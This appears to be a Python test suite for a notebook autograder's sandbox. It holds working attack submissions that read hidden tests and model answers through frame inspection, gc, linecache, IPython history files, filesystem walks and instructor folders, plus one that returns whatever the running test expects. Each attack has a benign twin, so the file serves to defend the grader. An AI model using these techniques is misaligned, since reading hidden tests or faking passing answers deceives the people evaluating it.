"""Hidden tests and model answers: where they might be read while a submission is graded."""

from tests.attacks import course
from tests.attacks.attack import Attack

TALLY, TOP = course.REFERENCE["tally"].split("\n\n\n")
KEEPS_IT = TALLY + '''

mine, kept = tally, []

def top(codes, number):
    if tally is not mine:
        kept.append(tally)
    counts = tally(codes)
    return sorted(counts, key=lambda code: (-counts[code], code))[:number]'''
ASKS_IT = '''for function in kept:
    try:
        print("$harm was told", function(["NPL"]))
    except Exception as error:
        print(type(error).__name__, error)

'''

ATTACKS = [
    Attack("function-of-a-test-kept", "A right answer that a test put in the place of an earlier one is kept, and asked in a later cell of her own.",
           answers={"tally": KEEPS_IT, "latest": ASKS_IT + course.REFERENCE["latest"]}, honest_rest=True, deserves=course.FULL, keeps=course.FULL,
           twin={"tally": KEEPS_IT, "latest": "print(len(kept))\n\n" + course.REFERENCE["latest"]}),
    Attack("history-of-cells", "The function under test reads the running cell from In, _ih and the history manager.",
           answers={"growth": '''def growth(before, after):
    shell = get_ipython()
    print("$loot", repr([In[-1], _ih[-1], shell.history_manager.input_hist_raw[-1]]))
    return 0'''},
           twin={"growth": '''def growth(before, after):
    assert 'growth' in In[-1] or True
    if before == 0:
        raise ValueError('none')
    return 100 * (after - before) / before'''}),
    Attack("frames-above", "The function under test looks at the frames that called it, their names and constants.",
           answers={"growth": '''import sys

def growth(before, after):
    frame, found = sys._getframe(), []
    while frame is not None:
        found.append(repr((frame.f_code.co_consts, frame.f_code.co_filename, list(frame.f_locals.items())[:200])))
        frame = frame.f_back
    print("$loot", " ".join(found).replace("\\n", " "))
    return 0'''},
           twin={"growth": "import sys\n\ndef growth(before, after):\n    sys._getframe(0).f_code\n    if before == 0:\n        raise ValueError('none')\n"
                           "    return 100 * (after - before) / before"}),
    Attack("frames-of-a-traceback", "An exception raised on purpose, caught, and followed back to the test's frame by its traceback and inspect.stack().",
           answers={"journey": '''import inspect

class Journey:
    def __init__(self, start):
        found = [repr(record.code_context) + repr(record.frame.f_code.co_consts) for record in inspect.stack(20)]
        try:
            1 / 0
        except ZeroDivisionError as error:
            frame = error.__traceback__.tb_frame.f_back
            while frame is not None:
                found.append(repr(frame.f_code.co_consts))
                frame = frame.f_back
        print("$loot", " ".join(found).replace("\\n", " "))'''},
           twin_top="import inspect\nwho = inspect.stack()[0].function"),
    Attack("objects-in-memory", "gc.get_objects() is searched for texts, code and frames that belong to a test.",
           answers={"words": '''import gc, types

def words(text):
    found, word = [], "hidden" + "-test"
    for thing in gc.get_objects():
        try:
            if isinstance(thing, (dict, list, tuple)) and len(thing) < 5000:
                inside = thing.values() if isinstance(thing, dict) else thing
                found += [part for part in inside if type(part) is str and word in part]
            if isinstance(thing, types.FrameType):
                found += [part for part in thing.f_code.co_consts if type(part) is str and word in part]
        except Exception:
            pass
    print("$loot", repr(found)[:5000])
    return None'''},
           twin={"words": "import gc\n\ndef words(text):\n    gc.collect()\n    return len(text.split())"}),
    Attack("code-by-profile", "A profile function takes the constants of whatever code calls the learner's functions.",
           top='''import sys

found = []

def profile(frame, event, argument):
    back = frame.f_back
    while back is not None and len(found) < 500:
        found.extend(part for part in back.f_code.co_consts if type(part) is str)
        back = back.f_back''',
           answers={"tally": '''def tally(codes):
    sys.setprofile(profile)
    len(codes)
    sys.setprofile(None)
    print('$loot', repr(found))
    return {}'''},
           twin_top="import sys\nsys.setprofile(None)"),
    Attack("line-cache", "linecache keeps the source of cells for tracebacks; the function under test prints all of it.",
           answers={"latest": '''import linecache

def latest(frame):
    print('$loot', repr([kept[2] for name, kept in linecache.cache.items() if len(kept) > 2])[-60000:])
    return frame'''},
           twin_top="import linecache\nlinecache.checkcache()"),
    Attack("answer-from-the-test", "The function under test reads the running test and returns what that expects.",
           answers={"growth": '''import re, sys

def growth(before, after):
    frame = sys._getframe(1)
    lines = In[-1].splitlines()
    line = lines[min(frame.f_lineno, len(lines)) - 1]
    if "allclose([" in line:
        return [25, -20][before == 50]
    number = re.search(r"== ([\\d.]+)|, (\\d+)\\)$$", line)
    if number is None or not before:
        raise ValueError
    return float(number[1] or number[2])''',
                    "words": '''import sys

def words(text):
    return sys._getframe(1).f_globals["number"]''',
                    "tally": '''import ast, sys

def tally(codes):
    line = In[-1].splitlines()[sys._getframe(1).f_lineno - 1]
    return ast.literal_eval(line.partition("==")[2].strip()) if "==" in line else {}'''},
           twin={"words": "def words(text):\n    number = len(text.split())\n    return number"}),
    Attack("kernel-history-file", "IPython's history on disk may hold the cells of those who were graded before.",
           top='''import glob, os, sqlite3
found = []
for file in glob.glob(os.path.expanduser("~/.ipython/profile_*/history.sqlite")) + glob.glob("$home/.ipython/profile_*/history.sqlite"):
    try:
        found += sqlite3.connect(file).execute("select source_raw from history").fetchall()
    except sqlite3.Error:
        pass
try:
    found += list(get_ipython().history_manager.search("*hidden*"))
except Exception as error:
    print(type(error).__name__)
print("$loot", repr(found)[-100000:])''', twin_top="import os\nos.path.expanduser('~')"),
    Attack("notebook-beside", "The notebook that is graded lies beside the kernel: every file around is read.",
           top='''import os
found = []
for top in (".", "..", "../..", "../../..", "../../../.."):
    for folder, _, files in os.walk(top):
        for name in files[:50]:
            try:
                text = open(os.path.join(folder, name), errors="replace").read(1 << 20)
            except OSError:
                continue
            if "hidden" + "-test" in text or "model" + "-answer" in text:
                found.append((name, text[text.find("hidden" + "-test") - 100:][:300]))
print("$loot", repr(found)[:20000])''', twin_top="import os\nsorted(os.listdir('.'))"),
    Attack("source-folder", "The answers of whoever teaches lie in source/, which the course's layout gives away.",
           top='''import glob
for pattern in ("$course/source/*/*.ipynb", "../../../source/*/*.ipynb", "/tmp/template/source/*/*.ipynb"):
    for name in glob.glob(pattern):
        print("$loot", repr(open(name).read())[:60000])''', twin_top="import glob\nglob.glob('*.csv')"),
    Attack("answers-of-this-project", "The repository of the grading engine holds answers of its own course.",
           top='''import importlib.util, pathlib
package = importlib.util.find_spec("migcap")
top = pathlib.Path(package.origin).parents[1] if package and package.origin else pathlib.Path("/opt/migcap")
for name in ("solutions", "grading", "tests", ".git"):
    try:
        inside = sorted(path.name for path in (top / name).iterdir())
    except OSError:
        continue
    if inside:
        print("$harm sees", name, "of the repository")''', twin_top="import pathlib\npathlib.Path('.').resolve()"),
]
